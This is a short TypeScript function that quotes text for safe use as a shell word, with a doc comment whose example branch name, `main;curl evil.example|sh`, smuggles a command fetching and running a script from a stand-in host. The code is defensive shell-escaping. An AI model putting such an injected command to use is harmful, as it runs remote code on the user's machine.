/** A word as it can be copied into a shell: git lets a branch be called `main;curl evil.example|sh`. */
export function shellWord(text: string): string {
  return /^[\w./-]+$/.test(text) ? text : `'${text.replaceAll("'", "'\\''")}'`;
}
